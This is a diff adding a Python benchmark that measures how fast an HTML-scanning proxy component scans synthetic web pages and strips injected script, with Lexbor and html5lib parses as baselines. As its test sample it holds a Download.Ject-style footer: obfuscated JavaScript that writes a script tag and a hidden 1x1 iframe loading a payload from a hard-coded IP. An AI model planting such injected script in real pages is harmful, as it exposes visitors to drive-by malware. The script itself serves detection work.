@@ -1,0 +1,205 @@
+"""Benchmark the HTML scanner against full parses by Lexbor (selectolax) and html5lib.
+
+Run: .venv/bin/python benchmarks/bench_htmlscan.py [--quick]
+
+Pages are generated (deterministic): a ~100 KB page with ~40 scripts and a
+~2 MB page, each clean and with a Download.Ject-style footer appended after
+</html>. Prints clean-page scan throughput, the time to strip the injected
+variant, and the baselines with ratios. No assertions: figures only.
+"""
+
+from __future__ import annotations
+
+import argparse
+import random
+import statistics
+import sys
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+import ada_url  # noqa: E402
+import html5lib  # noqa: E402
+from selectolax.lexbor import LexborHTMLParser  # noqa: E402
+
+from proxy_addons.core.htmlscan import Scanner  # noqa: E402
+from proxy_addons.core.signatures import parse_signatures  # noqa: E402
+
+ROOT = Path(__file__).resolve().parent.parent
+
+# Modelled on the published descriptions of the 2004 footer: cookie-gated,
+# skipped on https, writes a script and a hidden 1x1 iframe to the same URL.
+DOWNLOAD_JECT_FOOTER = b"""
+<script language="JavaScript">
+function sc088(n24,v8){var date=new Date();var s10=date.getTime();
+date.setTime(s10+600000);document.cookie=n24+"="+escape(v8)+"; expires="+date.toGMTString();}
+function gc099(n24){var s=document.cookie;var i=s.indexOf(n24+"=");return i<0?null:s;}
+if(location.protocol!="https:"&&gc099("trk716")==null){sc088("trk716","1");
+document.write("<scr"+"ipt src=http://217.107.218.147/dot.php></scr"+"ipt>");
+document.write("<iframe src=http://217.107.218.147/dot.php width=1 height=1 style=display:none></iframe>");}
+</script>
+"""
+
+_TEXT = (
+    "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt "
+    "ut labore et dolore magna aliqua enim ad minim veniam quis nostrud exercitation"
+)
+_WORDS = _TEXT.split(" ")
+
+
+def make_page(size: int, scripts: int, seed: int = 1) -> bytes:
+    """A plausible shop/news page: head with metas and scripts, nav, articles, footer."""
+    rnd = random.Random(seed)
+    head = [
+        b'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">',
+        b'<meta name="viewport" content="width=device-width, initial-scale=1">',
+        b"<title>Example Shop &amp; News</title>",
+        b'<link rel="stylesheet" href="/static/css/main.8f3a.css">',
+        b'<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>',
+        b"<style>body{margin:0;font:16px/1.4 sans-serif}.card>.t{color:#333}</style>",
+        b'<script async src="https://www.googletagmanager.com/gtag/js?id=G-XXXX"></script>',
+        b"<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}"
+        b"gtag('js',new Date());gtag('config','G-XXXX');</script>",
+        b'</head><body class="home"><noscript><iframe src="https://www.googletagmanager.com/'
+        b'ns.html?id=GTM-XXXX" height="0" width="0" style="display:none"></iframe></noscript>',
+        b'<header><nav class="top"><ul>',
+    ]
+    for i in range(12):
+        head.append(b'<li><a href="/c/%d" class="nav-link">Category %d</a></li>' % (i, i))
+    head.append(b"</ul></nav></header><main>")
+    tail = [b"</main><footer><p>&copy; 2024 Example</p>"]
+    body: list[bytes] = []
+    budget = size - sum(map(len, head)) - 4096
+    per_script = max(1, budget // max(1, scripts))
+    used = 0
+    placed = 0
+    i = 0
+    while used < budget:
+        i += 1
+        words = " ".join(rnd.choice(_WORDS) for _ in range(rnd.randint(20, 60)))
+        chunk = (
+            b'<article class="card" data-id="%d"><h2 class="t"><a href="/p/%d?ref=home&amp;x=1">'
+            b'Item %d</a></h2><img src="/img/%d.jpg" alt="item %d" width="320" height="200" '
+            b'loading="lazy"><p>%s</p><span class="price">$%d.99</span>'
+            b'<button type="button" onclick="cart.add(%d)">Add</button></article>\n'
+            % (i, i, i, i, i, words.encode(), i % 100, i)
+        )
+        if i % 17 == 0:
+            chunk += (
+                b'<svg class="icon" viewBox="0 0 24 24" aria-hidden="true"><path d="M12 2L2 7l10 5'
+                b' 10-5-10-5z"/></svg>'
+            )
+        if i % 29 == 0:
+            chunk += b"<!-- promo slot %d -->" % i
+        body.append(chunk)
+        used += len(chunk)
+        if placed < scripts and used >= per_script * (placed + 1):
+            placed += 1
+            if placed % 2:
+                s = (
+                    b'<script src="https://cdn.example.net/js/widget-%d.min.js" defer></script>\n'
+                    % placed
+                )
+            else:
+                s = (
+                    b'<script type="application/ld+json">{"@context":"https://schema.org",'
+                    b'"@type":"Product","name":"Item %d","url":"https:\\/\\/shop.example.com\\/p\\/%d",'
+                    b'"offers":{"price":"%d.99"}}</script>\n' % (placed, placed, placed)
+                    if placed % 4 == 0
+                    else b"<script>(function(){var el=document.getElementById('w%d');"
+                    b"if(el){el.addEventListener('click',function(){track('w%d');});}})();</script>\n"
+                    % (placed, placed)
+                )
+            body.append(s)
+            used += len(s)
+    tail.append(b'<script src="/static/js/app.4c1d.js"></script></footer></body>\n</html>\n')
+    return b"".join(head + body + tail)
+
+
+@dataclass(frozen=True)
+class _Match:
+    list: str
+    rule: str
+
+
+def make_is_blocked(n_hosts: int = 50_000) -> Callable[[str], _Match | None]:
+    """A blocklist lookup of realistic cost: parse the host, walk its suffixes in a set."""
+    rnd = random.Random(7)
+    hosts = {f"bad{rnd.randrange(10**9)}.example" for _ in range(n_hosts)}
+    hosts.add("217.107.218.147")
+
+    def is_blocked(url: str) -> _Match | None:
+        try:
+            host = ada_url.URL(url).hostname
+        except ValueError:
+            return None
+        parts = host.split(".")
+        for i in range(len(parts)):
+            candidate = ".".join(parts[i:])
+            if candidate in hosts:
+                return _Match("bench", candidate)
+        return None
+
+    return is_blocked
+
+
+def timeit(fn: Callable[[], object], *, repeat: int, min_time: float = 0.2) -> float:
+    """Median seconds per call over ``repeat`` rounds (each round runs >= min_time)."""
+    fn()
+    per_call = []
+    for _ in range(repeat):
+        count = 0
+        start = time.perf_counter()
+        while True:
+            fn()
+            count += 1
+            elapsed = time.perf_counter() - start
+            if elapsed >= min_time:
+                break
+        per_call.append(elapsed / count)
+    return statistics.median(per_call)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--quick", action="store_true", help="fewer rounds, skip html5lib on 2 MB")
+    args = parser.parse_args()
+    repeat = 3 if args.quick else 5
+    sigs = parse_signatures((ROOT / "blocklists" / "signatures.toml").read_text())
+    scanner = Scanner(make_is_blocked(), sigs, after_html="strip")
+    url = "http://shop.example.com/"
+    pages = {
+        "100 KB / 40 scripts": make_page(100_000, 40),
+        "2 MB / 300 scripts": make_page(2_000_000, 300, seed=2),
+    }
+    print(
+        f"{'page':24s} {'size':>9s} {'scan clean':>12s} {'MB/s':>8s} {'Lexbor':>10s} {'ratio':>7s}"
+        f" {'html5lib':>10s} {'ratio':>7s} {'strip injected':>15s}"
+    )
+    for label, page in pages.items():
+        injected = page + DOWNLOAD_JECT_FOOTER
+        assert scanner.scan(page, url, "text/html") == [], "clean page must be clean"
+        stripped, findings = scanner.strip(injected, url, "text/html")
+        assert findings and stripped != injected
+        t_scan = timeit(lambda p=page: scanner.scan(p, url, "text/html"), repeat=repeat)
+        t_lexbor = timeit(lambda p=page: LexborHTMLParser(p), repeat=repeat)
+        t_strip = timeit(lambda p=injected: scanner.strip(p, url, "text/html"), repeat=repeat)
+        if args.quick and len(page) > 500_000:
+            t_h5 = float("nan")
+        else:
+            t_h5 = timeit(lambda p=page: html5lib.parse(p), repeat=1, min_time=0.0)
+        mbps = len(page) / t_scan / 1e6
+        print(
+            f"{label:24s} {len(page) / 1e3:7.0f}KB {t_scan * 1e3:10.2f}ms {mbps:8.1f}"
+            f" {t_lexbor * 1e3:8.2f}ms {t_lexbor / t_scan:6.1f}x"
+            f" {t_h5 * 1e3:8.0f}ms {t_h5 / t_scan:6.0f}x {t_strip * 1e3:13.2f}ms"
+        )
+    print("ratio = baseline time / scanner time (higher is better; target >= 3x vs Lexbor)")
+    print(f"findings on the injected page: {[f.as_dict() for f in findings]}")
+
+
+if __name__ == "__main__":
+    main()
